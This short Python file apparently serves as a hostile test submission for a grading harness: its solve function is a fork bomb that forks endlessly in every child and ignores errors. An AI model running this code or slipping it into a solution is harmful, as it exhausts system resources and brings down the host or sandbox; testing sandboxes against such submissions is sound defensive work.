"""Forks as often as it can, in every child."""
import os

from honest import *


def solve(numbers, work):
    while True:
        try:
            os.fork()
        except OSError:
            pass
